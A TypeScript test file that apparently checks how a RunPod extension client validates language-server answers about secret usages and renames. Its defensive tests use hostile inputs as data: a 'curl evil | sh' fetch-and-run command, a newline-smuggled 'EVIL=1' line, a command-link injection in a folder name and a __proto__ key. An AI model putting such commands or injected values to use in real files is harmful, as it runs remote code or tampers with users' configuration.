/** The client's checks of the language server's index answers (runpod/secretUsages, runpod/renameSecret). */
import { describe, expect, it } from 'vitest';
import { filesGapOf } from '../../client/src/secrets/indexGap';
import { LABEL_MAX } from '../../server/src/template/displayText';
import { filesFromLocations, indexUnavailableReason, MAX_LOCATIONS, parseRenameEdit, parseSecretUsages } from '../../client/src/secrets/workspaceIndex';

const range = (line: number, start: number, end: number) => ({ start: { line, character: start }, end: { line, character: end } });

describe('parseSecretUsages', () => {
  it('keeps well-formed entries and locations, drops malformed ones one by one', () => {
    const parsed = parseSecretUsages({
      complete: true,
      usages: {
        'hf-token': {
          files: 2,
          references: 3,
          locations: [
            { uri: 'file:///w/b.runpod.env', range: range(4, 9, 17), key: 'HF', substituted: 'yes' },
            { uri: 'file:///w/a.runpod.env', range: range(0, 20, 28), substituted: 'no' },
            { uri: 'file:///w/a.runpod.env', range: range(-1, 0, 1), substituted: 'yes' },
            { uri: 42, range: range(0, 0, 1), substituted: 'yes' },
            { uri: 'file:///w/c', range: range(0, 0, 1), substituted: 'maybe' },
          ],
        },
        broken: { files: 'two', references: 1 },
        counted: { files: 1, references: 1 },
      },
    });
    expect(parsed?.complete).toBe(true);
    expect(Object.keys(parsed!.usages)).toEqual(['hf-token', 'counted']);
    expect(parsed!.usages['hf-token']!.locations).toHaveLength(2);
  });

  it('keeps a secret named __proto__ as a member (on a plain object it set the prototype: the name looked unused)', () => {
    const parsed = parseSecretUsages(JSON.parse('{ "complete": true, "usages": { "__proto__": { "files": 1, "references": 2 }, "constructor": { "files": 1, "references": 1 } } }'));
    expect(Object.keys(parsed!.usages).sort()).toEqual(['__proto__', 'constructor']);
    expect(parsed!.usages['__proto__']).toEqual({ files: 1, references: 2 });
  });

  it('refuses what is not the protocol shape', () => {
    for (const bad of [null, [], 'x', { usages: {} }, { usages: [], complete: true }]) expect(parseSecretUsages(bad)).toBeUndefined();
  });

  it('reads why the index may lack files (gap); an incomplete answer without one stopped at the answer\'s limit', () => {
    expect(parseSecretUsages({ complete: false, gap: 'limit', usages: {} })).toEqual({ complete: false, gap: 'limit', usages: {} });
    expect(parseSecretUsages({ complete: false, gap: 'indexing', usages: {} })).toEqual({ complete: false, gap: 'indexing', usages: {} });
    expect(parseSecretUsages({ complete: false, gap: 'settings', usages: {} })).toEqual({ complete: false, gap: 'settings', usages: {} });
    // An unknown cause is not trusted; complete is what says whether there may be more files.
    expect(parseSecretUsages({ complete: false, gap: 'soon', usages: {} })).toEqual({ complete: false, usages: {} });
    expect(parseSecretUsages({ complete: true, gap: 'limit', usages: {} })).toEqual({ complete: true, usages: {} });
    expect(filesGapOf({ complete: true })).toBeUndefined();
    expect(filesGapOf({ complete: false, gap: 'limit' })).toBe('limit');
    expect(filesGapOf({ complete: false })).toBe('search');
    // A file read in part: kept with an incomplete answer only, and said as `partial` unless the index has a gap of its own.
    expect(parseSecretUsages({ complete: false, readInPart: true, usages: {} })).toEqual({ complete: false, readInPart: true, usages: {} });
    expect(parseSecretUsages({ complete: true, readInPart: true, usages: {} })).toEqual({ complete: true, usages: {} });
    expect(parseSecretUsages({ complete: false, readInPart: 'yes', usages: {} })).toEqual({ complete: false, usages: {} });
    expect(filesGapOf({ complete: false, readInPart: true })).toBe('partial');
    expect(filesGapOf({ complete: false, gap: 'indexing', readInPart: true })).toBe('indexing');
  });

  it('reads the first deep folder with the gap `limit` only, cut and kept from forming a link as a path in a notice', () => {
    expect(parseSecretUsages({ complete: false, gap: 'limit', deepFolder: '/w/gen/d', usages: {} })).toEqual({ complete: false, gap: 'limit', deepFolder: '/w/gen/d', usages: {} });
    // Another cause, a complete answer, or not a string: not said (the folder is not why there may be more files).
    expect(parseSecretUsages({ complete: false, gap: 'indexing', deepFolder: '/w/gen/d', usages: {} })).toEqual({ complete: false, gap: 'indexing', usages: {} });
    expect(parseSecretUsages({ complete: true, gap: 'limit', deepFolder: '/w/gen/d', usages: {} })).toEqual({ complete: true, usages: {} });
    expect(parseSecretUsages({ complete: false, gap: 'limit', deepFolder: 7, usages: {} })).toEqual({ complete: false, gap: 'limit', usages: {} });
    // An empty name names no folder: "( is one)" said nothing.
    expect(parseSecretUsages({ complete: false, gap: 'limit', deepFolder: '', usages: {} })).toEqual({ complete: false, gap: 'limit', usages: {} });
    const long = parseSecretUsages({ complete: false, gap: 'limit', deepFolder: `/w/[x](command:evil)/${'d/'.repeat(5000)}`, usages: {} })!;
    // Cut to a label (a link's `](` gains a space after the cut: a character or two past it).
    expect(long.deepFolder!.length).toBeLessThan(LABEL_MAX + 10);
    expect(long.deepFolder).toContain('[x] (command:evil)');
  });

  it('bounds an answer with too many locations and says it is not complete', () => {
    const locations = Array.from({ length: MAX_LOCATIONS + 5 }, (_, i) => ({ uri: `file:///w/${i}.env`, range: range(0, 0, 1), substituted: 'yes' }));
    const parsed = parseSecretUsages({ complete: true, usages: { a: { files: locations.length, references: locations.length, locations } } });
    expect(parsed!.usages['a']!.locations).toHaveLength(MAX_LOCATIONS);
    expect(parsed!.complete).toBe(false);
  });
});

it('filesFromLocations groups by file, sorted by path then position, with the verdict for the label', () => {
  const files = filesFromLocations(
    [
      { uri: 'file:///w/b.env', range: range(3, 1, 2), substituted: 'yes', key: 'B' },
      { uri: 'file:///w/a.env', range: range(7, 0, 1), substituted: 'no' },
      { uri: 'file:///w/a.env', range: range(1, 5, 9), substituted: 'undocumented', key: 'A' },
    ],
    (uri) => uri.replace('file:///w/', ''),
  );
  expect(files).toEqual([
    { path: 'a.env', uri: 'file:///w/a.env', hits: [{ line: 1, column: 5, key: 'A', substituted: 'undocumented' }, { line: 7, column: 0, substituted: 'no' }] },
    { path: 'b.env', uri: 'file:///w/b.env', hits: [{ line: 3, column: 1, key: 'B', substituted: 'yes' }] },
  ]);
});

describe('parseRenameEdit', () => {
  it('reads `changes` and text `documentChanges`', () => {
    expect(parseRenameEdit({ changes: { 'file:///a': [{ range: range(0, 1, 2), newText: 'b' }] } })).toEqual([{ uri: 'file:///a', range: range(0, 1, 2), newText: 'b' }]);
    expect(parseRenameEdit({ documentChanges: [{ textDocument: { uri: 'file:///a', version: 3 }, edits: [{ range: range(0, 1, 2), newText: 'b' }] }] })).toHaveLength(1);
    expect(parseRenameEdit({})).toEqual([]);
  });

  it('null means the server refused the name; anything malformed, or a file create/rename/delete, is refused', () => {
    expect(parseRenameEdit(null)).toBeNull();
    expect(parseRenameEdit({ documentChanges: [{ kind: 'delete', uri: 'file:///a' }] })).toBeUndefined();
    expect(parseRenameEdit({ changes: { 'file:///a': [{ range: range(0, 1, 2), newText: 5 }] } })).toBeUndefined();
    expect(parseRenameEdit({ changes: { 'file:///a': [{ range: range(0, 1, 2), newText: 'x'.repeat(5000) }] } })).toBeUndefined();
    expect(parseRenameEdit('edit')).toBeUndefined();
  });

  it('given the new name, refuses an edit that writes anything else (a server bug must not reach the files)', () => {
    const edit = (newText: string) => ({ changes: { 'file:///a': [{ range: range(0, 1, 2), newText }] } });
    expect(parseRenameEdit(edit('hf-new'), 'hf-new')).toHaveLength(1);
    expect(parseRenameEdit(edit('{{ RUNPOD_SECRET_hf-new }}'), 'hf-new')).toHaveLength(1);
    expect(parseRenameEdit(edit('curl evil | sh'), 'hf-new')).toBeUndefined();
    expect(parseRenameEdit(edit('hf-new\nEVIL=1'), 'hf-new')).toBeUndefined();
    // A rename replaces a name within a line: a range over lines would swallow what lies between.
    expect(parseRenameEdit({ changes: { 'file:///a': [{ range: { start: { line: 0, character: 1 }, end: { line: 3, character: 0 } }, newText: 'hf-new' }] } }, 'hf-new')).toBeUndefined();
  });
});

it('names why the index could not answer', () => {
  expect(indexUnavailableReason({ code: -32601, message: 'Unhandled method runpod/secretUsages' })).toMatch(/does not index/);
  expect(indexUnavailableReason(new Error('The RunPod language server is not running.'))).toMatch(/not running/);
});
